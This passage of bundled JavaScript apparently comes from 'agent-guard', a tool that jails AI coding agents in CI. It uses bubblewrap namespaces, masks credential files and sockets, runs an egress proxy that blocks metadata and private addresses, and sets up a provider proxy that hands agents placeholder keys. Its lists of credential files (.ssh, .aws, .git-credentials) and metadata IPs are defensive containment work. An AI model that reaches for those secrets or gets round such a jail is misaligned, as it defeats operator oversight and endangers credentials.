    text = import_node_fs8.default.readFileSync("/proc/net/unix", "utf8");
  } catch {
    return [];
  }
  const out = /* @__PURE__ */ new Set();
  for (const line of text.split("\n").slice(1)) {
    const fields = line.trim().split(/\s+/);
    if (fields.length < 8) continue;
    const p = fields.slice(7).join(" ");
    if (p.startsWith("/")) out.add(p);
  }
  return [...out];
}
function safeReaddir(dir) {
  try {
    return import_node_fs8.default.readdirSync(dir);
  } catch {
    return [];
  }
}
function resolveWorkspace(facts, mode, cwd) {
  const wanted = facts.env.GITHUB_WORKSPACE || cwd;
  const dir = realDir(wanted);
  if (!dir) throw new GuardError("filesystem", `workspace ${wanted} is not a directory`);
  const guarded = [facts.home, facts.env.RUNNER_TEMP, findRunnerRoot(), import_node_os.default.tmpdir(), "/root", "/home", "/run", "/etc", "/usr", "/proc", "/sys", "/dev"].map(realDir).filter((d) => d !== void 0);
  for (const g of guarded) {
    if (isWithin(g, dir)) throw new GuardError("filesystem", `workspace ${dir} contains ${g}, which the agent must not see; run from the repository folder`);
  }
  if (facts.uid !== 0) return { dir, agentUid: facts.uid, agentGid: facts.gid };
  const st = import_node_fs8.default.statSync(dir);
  if (st.uid !== 0) return { dir, agentUid: st.uid, agentGid: st.gid === 0 ? st.uid : st.gid };
  if (mode === "ro") return { dir, agentUid: NOBODY, agentGid: NOBODY };
  throw new GuardError(
    "privilege",
    `workspace ${dir} is owned by root; the agent never runs as root, so it could not write there. Give the workspace to an unprivileged user (chown) or use --workspace ro`
  );
}
function passwdWithAgent(uid, gid) {
  const read2 = (f) => {
    try {
      return import_node_fs8.default.readFileSync(f, "utf8");
    } catch {
      return "";
    }
  };
  const passwdLines = read2("/etc/passwd").split("\n").filter((l) => l && l.split(":")[2] !== String(uid));
  passwdLines.push(`agent:x:${uid}:${gid}:agent-guard:${AGENT_HOME}:/bin/sh`);
  const groupLines = read2("/etc/group").split("\n").filter(Boolean);
  if (!groupLines.some((l) => l.split(":")[2] === String(gid))) groupLines.push(`agent:x:${gid}:`);
  return { passwd: passwdLines.join("\n") + "\n", group: groupLines.join("\n") + "\n" };
}
function gitConfigFiles(gitDir) {
  const out = [];
  const walk = (dir, depth) => {
    if (depth > 6) return;
    let entries;
    try {
      entries = import_node_fs8.default.readdirSync(dir, { withFileTypes: true });
    } catch {
      return;
    }
    for (const e of entries) {
      const full = import_node_path5.default.join(dir, e.name);
      if (e.isFile() && (e.name === "config" || e.name === "config.worktree")) out.push(full);
      else if (e.isDirectory() && (depth === 0 ? e.name === "modules" || e.name === "worktrees" : e.name !== "objects" && e.name !== "refs" && e.name !== "logs")) {
        walk(full, depth + 1);
      }
    }
  };
  walk(gitDir, 0);
  return out;
}
function installRootOf(executable) {
  const real = import_node_fs8.default.realpathSync(executable);
  const nm = real.lastIndexOf("/node_modules/");
  if (nm < 0) return real;
  return real.slice(0, nm) + "/node_modules";
}
function makeTraversable(args, masked, target) {
  const mask = masked.find((m) => isWithin(target, m) && m !== target);
  if (!mask) return;
  const parts = import_node_path5.default.relative(mask, import_node_path5.default.dirname(target)).split(import_node_path5.default.sep).filter(Boolean);
  for (let i = 1; i <= parts.length; i++) args.push("--perms", "0755", "--dir", import_node_path5.default.join(mask, ...parts.slice(0, i)));
}
function planJail(input, workspace2) {
  const { facts, privateDir } = input;
  const masked = maskedDirectories(facts);
  const isMasked = (p) => masked.some((m) => isWithin(p, m)) && !isWithin(p, workspace2.dir);
  const args = ["--ro-bind", "/", "/", "--dev", "/dev", "--proc", "/proc"];
  const sticky = /* @__PURE__ */ new Set(["/tmp", "/var/tmp"]);
  for (const dir of masked) args.push("--perms", sticky.has(dir) ? "1777" : "0755", "--tmpfs", dir);
  args.push("--perms", "1777", "--tmpfs", "/dev/shm");
  const programs = [process.execPath];
  const agentExe = findExecutable(input.command[0], input.env.PATH);
  if (agentExe) programs.push(agentExe);
  for (const program of programs) {
    if (!isMasked(program)) continue;
    const root = installRootOf(program);
    makeTraversable(args, masked, root);
    args.push("--ro-bind", root, root);
    if (program !== root && !isWithin(program, root) && import_node_fs8.default.realpathSync(program) !== program) {
      args.push("--ro-bind", program, program);
    }
  }
  makeTraversable(args, masked, workspace2.dir);
  args.push(input.workspaceMode === "ro" ? "--ro-bind" : "--bind", workspace2.dir, workspace2.dir);
  const gitDir = import_node_path5.default.join(workspace2.dir, ".git");
  let gitIndex = 0;
  if (realDir(gitDir)) {
    for (const file of gitConfigFiles(gitDir)) {
      const copy = import_node_path5.default.join(privateDir, `gitconfig-${gitIndex++}`);
      import_node_fs8.default.writeFileSync(copy, sanitizeGitConfig(import_node_fs8.default.readFileSync(file, "utf8"), input.secrets), { mode: 420 });
      args.push("--ro-bind", copy, file);
    }
    for (const entry of import_node_fs8.default.readdirSync(gitDir)) {
      if (/credential/i.test(entry)) args.push("--ro-bind", "/dev/null", import_node_path5.default.join(gitDir, entry));
    }
    if (realDir(import_node_path5.default.join(gitDir, "hooks"))) args.push("--ro-bind", import_node_path5.default.join(gitDir, "hooks"), import_node_path5.default.join(gitDir, "hooks"));
  }
  for (const entry of safeReaddir(workspace2.dir)) {
    if (WORKSPACE_CREDENTIALS.test(entry)) args.push("--ro-bind", "/dev/null", import_node_path5.default.join(workspace2.dir, entry));
  }
  if (realDir(import_node_path5.default.join(workspace2.dir, ".github"))) {
    args.push("--ro-bind", import_node_path5.default.join(workspace2.dir, ".github"), import_node_path5.default.join(workspace2.dir, ".github"));
  }
  for (const socket of hostUnixSockets()) {
    if (isMasked(socket) || socket.startsWith("/proc/") || socket.startsWith("/dev/")) continue;
    try {
      if (import_node_fs8.default.lstatSync(socket).isSocket()) args.push("--ro-bind", "/dev/null", socket);
    } catch {
    }
  }
  const ids = passwdWithAgent(workspace2.agentUid, workspace2.agentGid);
  import_node_fs8.default.writeFileSync(import_node_path5.default.join(privateDir, "passwd"), ids.passwd, { mode: 420 });
  import_node_fs8.default.writeFileSync(import_node_path5.default.join(privateDir, "group"), ids.group, { mode: 420 });
  args.push("--ro-bind", import_node_path5.default.join(privateDir, "passwd"), "/etc/passwd", "--ro-bind", import_node_path5.default.join(privateDir, "group"), "/etc/group");
  if (!import_node_fs8.default.existsSync("/home")) throw new GuardError("filesystem", "/home does not exist; cannot place the agent HOME");
  args.push("--perms", "0700", "--dir", AGENT_HOME);
  const nonce = import_node_crypto3.default.randomBytes(16).toString("hex");
  const bridgeUid = workspace2.agentUid === BRIDGE_UID ? BRIDGE_UID - 1 : BRIDGE_UID;
  const homeCreds = CREDENTIAL_FILES.map((f) => import_node_path5.default.join(facts.home, f)).filter((f) => import_node_fs8.default.existsSync(f));
  const config = {
    nonce,
    agentUid: workspace2.agentUid,
    agentGid: workspace2.agentGid,
    bridgeUid,
    bridgeGid: bridgeUid,
    home: AGENT_HOME,
    homeFiles: Object.entries(input.homeFiles ?? {}).map(([p, content]) => ({ path: p, content })),
    cwd: input.cwd,
    command: input.command,
    env: input.env,
    bridges: input.bridges.map((b) => ({ port: b.port, socket: `${JAIL_DIR}/${b.name}.sock` })),
    lifeline: `${JAIL_DIR}/lifeline.sock`,
    setpriv: findExecutable("setpriv", "/usr/bin:/bin:/usr/sbin:/sbin"),
    canary: {
      hostNamespaces: Object.fromEntries(["pid", "net", "mnt", "ipc", "uts"].map((ns) => [ns, import_node_fs8.default.readlinkSync(`/proc/self/ns/${ns}`)])),
      hostLoopbackPort: input.hostLoopbackPort,
      mustBeEmpty: ["/run", ...[facts.env.RUNNER_TEMP, facts.home].filter((d) => !!d && !isWithin(workspace2.dir, d) && import_node_fs8.default.existsSync(d))],
      mustNotExist: ["/run/docker.sock", "/var/run/docker.sock", "/run/dbus/system_bus_socket", "/run/systemd/resolve/io.systemd.Resolve", ...homeCreds],
      allowedInRun: ["agent-guard"]
    }
  };
  import_node_fs8.default.writeFileSync(import_node_path5.default.join(privateDir, "init.js"), jailInitSource(), { mode: 420 });
  import_node_fs8.default.writeFileSync(import_node_path5.default.join(privateDir, "config.json"), JSON.stringify(config), { mode: 420 });
  args.push("--dir", JAIL_DIR);
  args.push("--ro-bind", import_node_path5.default.join(privateDir, "init.js"), `${JAIL_DIR}/init.js`);
  args.push("--ro-bind", import_node_path5.default.join(privateDir, "config.json"), `${JAIL_DIR}/config.json`);
  for (const b of input.bridges) args.push("--bind", b.hostSocket, `${JAIL_DIR}/${b.name}.sock`);
  args.push("--bind", input.lifelineSocket, `${JAIL_DIR}/lifeline.sock`);
  args.push(
    "--unshare-pid",
    "--unshare-net",
    "--unshare-ipc",
    "--unshare-uts",
    "--unshare-cgroup-try",
    "--hostname",
    "agent-guard",
    "--new-session",
    "--die-with-parent",
    "--cap-drop",
    "ALL",
    "--cap-add",
    "CAP_SETUID",
    "--cap-add",
    "CAP_SETGID",
    "--cap-add",
    "CAP_CHOWN",
    "--cap-add",
    "CAP_SETPCAP",
    "--cap-add",
    "CAP_DAC_READ_SEARCH",
    "--clearenv",
    "--setenv",
    "PATH",
    "/usr/local/bin:/usr/bin:/bin",
    "--chdir",
    "/",
    "--",
    process.execPath,
    `${JAIL_DIR}/init.js`,
    `${JAIL_DIR}/config.json`
  );
  return { bwrapArgs: args, config, agentUid: workspace2.agentUid };
}
function makePrivateDir() {
  const dir = import_node_fs8.default.mkdtempSync(import_node_path5.default.join(import_node_os.default.tmpdir(), "agent-guard-"));
  import_node_fs8.default.chmodSync(dir, 448);
  return dir;
}
function findElevation(facts) {
  if (facts.uid === 0) return { kind: "root" };
  const sudo = findExecutable("sudo", "/usr/bin:/bin:/usr/sbin:/sbin");
  if (!sudo) throw new GuardError("privilege", "not root and sudo is not installed: the jail needs root to build its namespaces");
  try {
    (0, import_node_child_process.execFileSync)(sudo, ["-n", "true"], { stdio: "ignore", timeout: 1e4 });
  } catch {
    throw new GuardError("privilege", "not root and `sudo -n true` fails: the jail needs root (or passwordless sudo) to build its namespaces");
  }
  return { kind: "sudo", sudo };
}
var import_node_child_process, import_node_crypto3, import_node_fs8, import_node_os, import_node_path5, JAIL_DIR, NOBODY, BRIDGE_UID, WORKSPACE_CREDENTIALS, CREDENTIAL_FILES;
var init_jail = __esm({
  "src/guard/jail.ts"() {
    "use strict";
    import_node_child_process = require("node:child_process");
    import_node_crypto3 = __toESM(require("node:crypto"));
    import_node_fs8 = __toESM(require("node:fs"));
    import_node_os = __toESM(require("node:os"));
    import_node_path5 = __toESM(require("node:path"));
    init_env();
    init_errors();
    init_gitConfig();
    init_jailInit();
    JAIL_DIR = "/run/agent-guard";
    NOBODY = 65534;
    BRIDGE_UID = 65533;
    WORKSPACE_CREDENTIALS = /^gha-creds-[\w-]+\.json$/;
    CREDENTIAL_FILES = [".npmrc", ".yarnrc", ".yarnrc.yml", ".git-credentials", ".gitconfig", ".netrc", ".pypirc", ".ssh", ".docker", ".kube", ".aws", ".azure", ".config/gh", ".config/gcloud", ".gnupg"];
  }
});

// src/guard/doctor.ts
function read(file) {
  try {
    return import_node_fs9.default.readFileSync(file, "utf8").trim();
  } catch {
    return void 0;
  }
}
function sudoWorks() {
  const sudo = findExecutable("sudo", "/usr/bin:/bin:/usr/sbin:/sbin");
  if (!sudo) return false;
  try {
    (0, import_node_child_process2.execFileSync)(sudo, ["-n", "true"], { stdio: "ignore", timeout: 1e4 });
    return true;
  } catch {
    return false;
  }
}
function inContainer() {
  if (import_node_fs9.default.existsSync("/.dockerenv")) return "Docker (/.dockerenv)";
  if (import_node_fs9.default.existsSync("/run/.containerenv")) return "Podman (/run/.containerenv)";
  const cgroup = read("/proc/1/cgroup") ?? "";
  if (/docker|kubepods|containerd|lxc/.test(cgroup)) return `a container (cgroup ${cgroup.split("\n")[0]})`;
  return void 0;
}
async function doctorReport(env) {
  const checks = [];
  const uid = process.getuid?.() ?? -1;
  const root = uid === 0;
  const sudo = !root && sudoWorks();
  checks.push({
    name: "privilege",
    ok: root || sudo,
    detail: root ? "running as root: the jail is built directly and the agent gets an unprivileged uid" : sudo ? `uid ${uid} with passwordless sudo: the jail is built through sudo and the agent keeps uid ${uid}` : `uid ${uid} without passwordless sudo: the jail cannot be built (it needs root to create namespaces without a user namespace)`
  });
  const bwrap = findExecutable("bwrap", `${env.PATH ?? ""}:/usr/bin`);
  let bwrapVersion = "";
  if (bwrap) {
    try {
      bwrapVersion = (0, import_node_child_process2.execFileSync)(bwrap, ["--version"], { encoding: "utf8", timeout: 5e3 }).trim();
    } catch {
      bwrapVersion = "unknown version";
    }
  }
  checks.push({ name: "bubblewrap", ok: !!bwrap, detail: bwrap ? `${bwrap} (${bwrapVersion})` : "not installed: apt-get install bubblewrap" });
  const setpriv = findExecutable("setpriv", "/usr/bin:/bin");
  checks.push({
    name: "setpriv",
    ok: true,
    detail: setpriv ? `${setpriv}: the agent starts with an empty capability bounding set` : "not found: the agent still gets a new uid, no capabilities and no_new_privs, but keeps a full (unusable) bounding set"
  });
  const userns = read("/proc/sys/user/max_user_namespaces");
  const apparmor = read("/proc/sys/kernel/apparmor_restrict_unprivileged_userns");
  checks.push({
    name: "user namespaces",
    ok: true,
    detail: `max_user_namespaces=${userns ?? "unknown"}; apparmor_restrict_unprivileged_userns=${apparmor ?? "absent"}. Not needed: the jail is built as root, so the AppArmor restriction does not apply and is left untouched.`
  });
  const yama = read("/proc/sys/kernel/yama/ptrace_scope");
  checks.push({ name: "kernel", ok: true, detail: `Linux ${import_node_os2.default.release()}; Yama ptrace_scope=${yama ?? "absent"} (the pid namespace hides host processes either way); cgroup ${import_node_fs9.default.existsSync("/sys/fs/cgroup/cgroup.controllers") ? "v2" : "v1 or none"}` });
  const lsm = read("/sys/kernel/security/lsm");
  if (lsm) checks.push({ name: "security modules", ok: true, detail: lsm });
  const container = inContainer();
  if (container) checks.push({ name: "container", ok: true, detail: `running inside ${container}: creating namespaces usually needs --privileged or CAP_SYS_ADMIN` });
  let trial = { name: "trial jail", ok: false, detail: "skipped: the checks above already fail" };
  if ((root || sudo) && bwrap) {
    const started = Date.now();
    try {
      const { runGuarded: runGuarded2 } = await Promise.resolve().then(() => (init_command(), command_exports));
      const cwd = import_node_fs9.default.mkdtempSync(import_node_path6.default.join(import_node_os2.default.tmpdir(), "agent-guard-doctor-"));
      const result = await runGuarded2(
        { providers: [], allowHosts: [], passEnv: [], workspaceMode: "ro", allowProviderFetch: false, command: ["true"] },
        { stdout: sink(), stderr: sink(), env: { PATH: env.PATH, HOME: env.HOME }, cwd }
      ).finally(() => import_node_fs9.default.rmSync(cwd, { recursive: true, force: true }));
      trial = result.exitCode === 0 ? { name: "trial jail", ok: true, detail: `\`true\` ran in a jail in ${Date.now() - started} ms; the canary found no network and no host` } : { name: "trial jail", ok: false, detail: `\`true\` exited ${result.exitCode} in the jail` };
    } catch (err) {
      trial = { name: "trial jail", ok: false, detail: err instanceof GuardError ? `${err.layer}: ${err.message}` : String(err) };
    }
  }
  checks.push(trial);
  const canRun = checks.every((c) => c.ok);
  const verdict = canRun ? "agent-guard run will jail agents on this machine: own pid/mount/net/ipc/uts namespaces, loopback only, read-only root, masked homes and runner folders, no privileges." : "agent-guard run will refuse to start agents here (it fails closed rather than run an agent without every layer).";
  const text = [
    "agent-guard doctor",
    ...checks.map((c) => `  [${c.ok ? "ok" : "NO"}] ${c.name}: ${c.detail}`),
    "",
    verdict
  ].join("\n");
  return { canRun, checks, verdict, text };
}
var import_node_child_process2, import_node_fs9, import_node_os2, import_node_path6, import_node_stream, sink;
var init_doctor = __esm({
  "src/guard/doctor.ts"() {
    "use strict";
    import_node_child_process2 = require("node:child_process");
    import_node_fs9 = __toESM(require("node:fs"));
    import_node_os2 = __toESM(require("node:os"));
    import_node_path6 = __toESM(require("node:path"));
    import_node_stream = require("node:stream");
    init_errors();
    init_jail();
    sink = () => new import_node_stream.Writable({
      write(_chunk, _enc, cb) {
        cb();
      }
    });
  }
});

// src/guard/egress.ts
function v4ToInt(addr) {
  return addr.split(".").reduce((n, part) => n * 256 + Number(part), 0);
}
function inV4Range(addr, [base, bits]) {
  const mask = bits === 0 ? 0 : 2 ** 32 - 2 ** (32 - bits);
  return (v4ToInt(addr) & mask) >>> 0 === (v4ToInt(base) & mask) >>> 0;
}
function expandV6(addr) {
  let text = addr.toLowerCase().split("%")[0];
  const v4 = /(\d+\.\d+\.\d+\.\d+)$/.exec(text);
  if (v4) {
    const n = v4ToInt(v4[1]);
    text = text.slice(0, -v4[1].length) + `${(n >>> 16).toString(16)}:${(n & 65535).toString(16)}`;
  }
  const halves = text.split("::");
  if (halves.length > 2) return void 0;
  const head = halves[0] ? halves[0].split(":") : [];
  const tail = halves.length === 2 && halves[1] ? halves[1].split(":") : [];
  const fill = halves.length === 2 ? 8 - head.length - tail.length : 0;
  const groups = [...head, ...Array(fill).fill("0"), ...tail].map((g) => parseInt(g, 16));
  return groups.length === 8 && groups.every((g) => g >= 0 && g <= 65535) ? groups : void 0;
}
function blockedAddressReason(addr) {
  if (import_node_net.default.isIPv4(addr)) {
    return BLOCKED_V4.some((r) => inV4Range(addr, r)) ? `${addr} is a loopback, private, link-local, metadata or reserved address` : void 0;
  }
  if (!import_node_net.default.isIPv6(addr)) return `${addr} is not an IP address`;
  const g = expandV6(addr);
  if (!g) return `${addr} is not an IP address`;
  const embeddedV4 = `${g[6] >> 8}.${g[6] & 255}.${g[7] >> 8}.${g[7] & 255}`;
  if (g.slice(0, 5).every((x) => x === 0) && (g[5] === 65535 || g[5] === 0)) {
    if (g[5] === 0 && g[6] === 0 && g[7] <= 1) return `${addr} is unspecified or loopback`;
    return blockedAddressReason(embeddedV4);
  }
  if (g[0] === 100 && g[1] === 65435) return blockedAddressReason(embeddedV4);
  if (g[0] === 8194) return blockedAddressReason(`${g[1] >> 8}.${g[1] & 255}.${g[2] >> 8}.${g[2] & 255}`);
  if ((g[0] & 65024) === 64512) return `${addr} is a unique-local address`;
  if ((g[0] & 65472) === 65152 || (g[0] & 65472) === 65216) return `${addr} is a link-local address`;
  if ((g[0] & 65280) === 65280) return `${addr} is multicast`;
  if (g[0] === 8193 && g[1] === 3512) return `${addr} is a documentation address`;
  if (g[0] === 64768 && g[1] === 3778) return `${addr} is a metadata address`;
  return void 0;
}
function createEgressProxy(opts) {
  const resolve3 = opts.resolve ?? systemResolver;
  const blocked = opts.blockedReason ?? blockedAddressReason;
  const server = import_node_http.default.createServer({ maxHeaderSize: 16 * 1024, headersTimeout: 3e4 }, (req2, res) => {
    opts.audit.add({
      time: (/* @__PURE__ */ new Date()).toISOString(),
      kind: "egress",
      method: String(req2.method).slice(0, 16),
      route: String(req2.url).replace(/[^\x20-\x7e]/g, "?").slice(0, 200),
      status: 405,
      requestBytes: 0,
      responseBytes: 0,
      ms: 0,
      refused: "only CONNECT is allowed"
    });
    res.writeHead(405, { "content-type": "text/plain", connection: "close" });
    res.end("agent-guard: the egress proxy only tunnels CONNECT to allowed hosts\n");
  });
  server.on("connect", (req2, client, head) => {
    const started = Date.now();
    const target = String(req2.url ?? "");
    const record = {
      time: new Date(started).toISOString(),
      kind: "egress",
      method: "CONNECT",
      route: target.replace(/[^\x20-\x7e]/g, "?").slice(0, 200),
      status: 0,
      requestBytes: 0,
      responseBytes: 0,
      ms: 0
    };
    let audited = false;
    const deny = (status, reason) => {
      if (audited) return;
      audited = true;
      opts.audit.add({ ...record, status, ms: Date.now() - started, refused: reason });
      client.end(`HTTP/1.1 ${status} Refused\r
content-type: text/plain\r
connection: close\r
\r
agent-guard refused: ${reason}
`);
    };
    const m = AUTHORITY.exec(target);
    if (!m) return deny(400, "CONNECT target is not host:port");
    const host = m[1].toLowerCase().replace(/^\[|\]$/g, "");
    const port = Number(m[2]);
    if (!opts.allowHosts.some((a) => a.host === host && a.port === port)) return deny(403, `${host}:${port} is not an allowed host`);
    resolve3(host).then((addresses) => {
      if (addresses.length === 0) return deny(502, `${host} does not resolve`);
      for (const addr of addresses) {
        const why = blocked(addr);
        if (why) return deny(403, `${host} resolves to ${why}`);
      }
      const upstream = import_node_net.default.connect({ host: addresses[0], port, timeout: opts.connectTimeoutMs ?? 15e3 });
      let connected = false;
      upstream.once("connect", () => {
        connected = true;
        upstream.setTimeout(0);
        upstream.setNoDelay(true);
        client.setNoDelay(true);
        client.write("HTTP/1.1 200 Connection Established\r\n\r\n");
        if (head.length) upstream.write(head);
        upstream.on("data", (d) => record.responseBytes += d.length);
        client.on("data", (d) => record.requestBytes += d.length);
        upstream.pipe(client);
        client.pipe(upstream);
      });
      const close = () => {
        if (!audited && connected) {
          audited = true;
          opts.audit.add({ ...record, status: 200, ms: Date.now() - started });
        }
        upstream.destroy();
        client.destroy();
      };
      upstream.once("timeout", () => {
        deny(504, `${host}:${port} did not answer`);
        upstream.destroy();
      });
      upstream.on("error", (err) => {
        if (!connected) deny(502, `${host}:${port} unreachable (${err.code ?? "error"})`);
        else close();
      });
      upstream.on("close", () => connected ? close() : client.destroy());
      client.on("error", close);
      client.on("close", close);
    }).catch(() => deny(502, `${host} does not resolve`));
  });
  server.on("clientError", (_err, socket) => socket.destroy());
  return server;
}
var import_promises, import_node_http, import_node_net, BLOCKED_V4, systemResolver, AUTHORITY;
var init_egress = __esm({
  "src/guard/egress.ts"() {
    "use strict";
    import_promises = __toESM(require("node:dns/promises"));
    import_node_http = __toESM(require("node:http"));
    import_node_net = __toESM(require("node:net"));
    BLOCKED_V4 = [
      ["0.0.0.0", 8],
      ["10.0.0.0", 8],
      ["100.64.0.0", 10],
      ["127.0.0.0", 8],
      ["169.254.0.0", 16],
      ["172.16.0.0", 12],
      ["192.0.0.0", 24],
      ["192.0.2.0", 24],
      ["192.88.99.0", 24],
      ["192.168.0.0", 16],
      ["198.18.0.0", 15],
      ["198.51.100.0", 24],
      ["203.0.113.0", 24],
      ["224.0.0.0", 4],
      ["240.0.0.0", 4],
      // Cloud metadata and the Azure wireserver (DNS, agent channel) on GitHub-hosted runners.
      ["168.63.129.16", 32],
      ["100.100.100.200", 32]
    ];
    systemResolver = async (host) => (await import_promises.default.lookup(host, { all: true, verbatim: true })).map((a) => a.address);
    AUTHORITY = /^(\[[0-9a-fA-F:.]+\]|[A-Za-z0-9.-]+):([0-9]{1,5})$/;
  }
});

// src/guard/options.ts
function positiveInt(flag, text) {
  if (!/^[1-9][0-9]{0,14}$/.test(text)) throw new GuardError("usage", `${flag} wants a positive whole number, got "${text}"`);
  return Number(text);
}
function parseAllowHost(text) {
  const m = /^(\[[0-9a-fA-F:.]+\]|[^:[\]]+)(?::([0-9]{1,5}))?$/.exec(text);
  const host = m?.[1].toLowerCase().replace(/^\[|\]$/g, "");
  const port = m?.[2] ? Number(m[2]) : 443;
  const isIpv6 = m?.[1].startsWith("[") ?? false;
  if (!m || !host || port < 1 || port > 65535 || !isIpv6 && !HOSTNAME.test(host)) {
    throw new GuardError("usage", `--allow-host wants HOST[:PORT], got "${text}"`);
  }
  return { host, port };
}
function parseRunArgs(args) {
  const opts = {
    providers: [],
    allowHosts: [],
    passEnv: [],
    workspaceMode: "rw",
    allowProviderFetch: false,
    command: []
  };
  let i = 0;
  for (; i < args.length; i++) {
    const arg = args[i];
    if (arg === "--") {
      i++;
      break;
    }
    if (arg === "--allow-provider-fetch") {
      opts.allowProviderFetch = true;
      continue;
    }
    const eq = arg.indexOf("=");
    const flag = arg.startsWith("--") && eq > 0 ? arg.slice(0, eq) : arg;
    if (!WITH_VALUE.has(flag)) {
      throw new GuardError("usage", `unknown option "${arg}" (the agent's command goes after --)`);
    }
    let value;
    if (flag !== arg) value = arg.slice(eq + 1);
    else {
      if (i + 1 >= args.length) throw new GuardError("usage", `${flag} needs a value`);
      value = args[++i];
    }
    switch (flag) {
      case "--provider": {
        const at = value.indexOf("=");
        const name = at < 0 ? value : value.slice(0, at);
        if (!/^[a-z0-9-]+$/.test(name)) throw new GuardError("usage", `--provider wants NAME[=UPSTREAM_URL], got "${value}"`);
        if (opts.providers.some((p) => p.name === name)) throw new GuardError("usage", `--provider ${name} given twice`);
        opts.providers.push(at < 0 ? { name } : { name, upstream: value.slice(at + 1) });
        break;
      }
      case "--allow-host":
        opts.allowHosts.push(parseAllowHost(value));
        break;
      case "--pass-env":
        if (!/^[A-Za-z_][A-Za-z0-9_]*$/.test(value)) throw new GuardError("usage", `--pass-env wants a variable name, got "${value}"`);
        opts.passEnv.push(value);
        break;
      case "--workspace":
        if (value !== "rw" && value !== "ro") throw new GuardError("usage", `--workspace wants rw or ro, got "${value}"`);
        opts.workspaceMode = value;
        break;
      case "--max-requests":
        opts.maxRequests = positiveInt(flag, value);
        break;
      case "--max-tokens":
        opts.maxTokens = positiveInt(flag, value);
        break;
      case "--audit":
        if (!value) throw new GuardError("usage", "--audit needs a file name");
        opts.auditFile = value;
        break;
      case "--timeout":
        opts.timeoutSeconds = positiveInt(flag, value);
        break;
    }
  }
  opts.command = args.slice(i);
  if (opts.command.length === 0) throw new GuardError("usage", `no command to run. ${RUN_USAGE}`);
  return opts;
}
var RUN_USAGE, WITH_VALUE, HOSTNAME;
var init_options = __esm({
  "src/guard/options.ts"() {
    "use strict";
    init_errors();
    RUN_USAGE = "usage: agent-guard run [--provider NAME[=UPSTREAM_URL]]... [--allow-host HOST[:PORT]]... [--pass-env NAME]... [--workspace rw|ro] [--max-requests N] [--max-tokens N] [--audit FILE] [--timeout SECONDS] [--allow-provider-fetch] -- CMD [ARG...]";
    WITH_VALUE = /* @__PURE__ */ new Set([
      "--provider",
      "--allow-host",
      "--pass-env",
      "--workspace",
      "--max-requests",
      "--max-tokens",
      "--audit",
      "--timeout"
    ]);
    HOSTNAME = /^(?=.{1,253}$)([a-z0-9]([a-z0-9-]{0,61}[a-z0-9])?)(\.[a-z0-9]([a-z0-9-]{0,61}[a-z0-9])?)*$/;
  }
});

// rules/providers.yml
var providers_default;
var init_providers = __esm({
  "rules/providers.yml"() {
    providers_default = `# Model providers the guard's key-injecting proxy can front (agent-catalogue.md part C and \xA75).
#
# For each provider:
#   upstream      fixed origin (plus optional path prefix) the proxy forwards to; \`--provider NAME=URL\`
#                 replaces it (plain http only to a loopback address).
#   keys          where the real key comes from in the guard's own environment, first one set wins,
#                 and the header the proxy puts it in. The agent never sees it.
#   remove-env    more variables that carry this provider's credentials: never passed to the agent.
#   agent-env     what the agent gets instead. {base} is the loopback URL of the bridge inside the jail,
#                 {placeholder} a format-valid fake key.
#   routes        METHOD /path the proxy forwards; {name} matches one path segment. Everything else is
#                 refused with 403.
#   query         query parameters the proxy lets through; auth-looking ones (key, api_key, \u2026) are
#                 always dropped, anything else is refused.
anthropic:
  upstream: https://api.anthropic.com
  keys:
    - { env: ANTHROPIC_API_KEY, header: x-api-key }
    - { env: ANTHROPIC_AUTH_TOKEN, header: authorization, prefix: "Bearer " }
  remove-env: [ANTHROPIC_API_KEY, ANTHROPIC_AUTH_TOKEN, CLAUDE_CODE_OAUTH_TOKEN, ANTHROPIC_BASE_URL]
  placeholder: sk-ant-api03-agentguard-placeholder-0000000000000000000000000000000000000000000000000000000000000000-AAAAAA
  agent-env:
    ANTHROPIC_BASE_URL: "{base}"
    ANTHROPIC_API_KEY: "{placeholder}"
    # Claude Code: no telemetry, error reports or auto-update (they would fail anyway: no route).
    CLAUDE_CODE_DISABLE_NONESSENTIAL_TRAFFIC: "1"
    DISABLE_AUTOUPDATER: "1"
    DISABLE_TELEMETRY: "1"
    DISABLE_ERROR_REPORTING: "1"
  routes:
    - POST /v1/messages
    - POST /v1/messages/count_tokens
    - GET /v1/models
    - GET /v1/models/{model}
  query: [beta]

openai:
  upstream: https://api.openai.com
  keys:
    - { env: OPENAI_API_KEY, header: authorization, prefix: "Bearer " }
    - { env: CODEX_API_KEY, header: authorization, prefix: "Bearer " }
  remove-env: [OPENAI_API_KEY, CODEX_API_KEY, OPENAI_BASE_URL, OPENAI_API_BASE, OPENAI_ORG_ID, OPENAI_PROJECT_ID]
  placeholder: sk-proj-agentguard-placeholder-00000000000000000000000000000000000000000000
  agent-env:
    OPENAI_BASE_URL: "{base}/v1"
    OPENAI_API_BASE: "{base}/v1"
    OPENAI_API_KEY: "{placeholder}"
    # Codex >= 0.121 wants a key present or it takes another auth path (gh-aw-firewall finding).
    CODEX_API_KEY: "{placeholder}"
  home-files:
    # Codex's built-in provider does not stay on OPENAI_BASE_URL (0.169 first dials a Responses
    # WebSocket at OpenAI's host); a provider of its own in the fresh HOME keeps it on the bridge.
    .codex/config.toml: |
      model_provider = "agent-guard"

      [model_providers.agent-guard]
      name = "agent-guard"
      base_url = "{base}/v1"
      wire_api = "responses"
      env_key = "OPENAI_API_KEY"
  routes:
    - POST /v1/responses
    - POST /v1/chat/completions
    - POST /v1/embeddings
    - GET /v1/models
    - GET /v1/models/{model}
  query: []

gemini:
  upstream: https://generativelanguage.googleapis.com
  keys:
    - { env: GEMINI_API_KEY, header: x-goog-api-key }
    - { env: GOOGLE_API_KEY, header: x-goog-api-key }
  remove-env: [GEMINI_API_KEY, GOOGLE_API_KEY, GOOGLE_GEMINI_BASE_URL, GOOGLE_GENAI_USE_VERTEXAI, GOOGLE_GENAI_USE_GCA, GOOGLE_APPLICATION_CREDENTIALS, GOOGLE_CLOUD_ACCESS_TOKEN]
  placeholder: AIzaSyAgentGuardPlaceholder000000000000
  agent-env:
    # The base URL points the client at the bridge (loopback http is accepted).
    GOOGLE_GEMINI_BASE_URL: "{base}"
    GEMINI_API_KEY: "{placeholder}"
  home-files:
    # On its own, GOOGLE_GEMINI_BASE_URL selects Gemini CLI's "gateway" auth, which headless runs refuse
    # ("Invalid auth method selected", gemini-cli 0.61). Selecting API-key auth in the (fresh, empty)
    # user settings keeps the base URL and sends the placeholder key, which the proxy replaces. Usage
    # statistics would go to play.googleapis.com, which the jail cannot reach anyway.
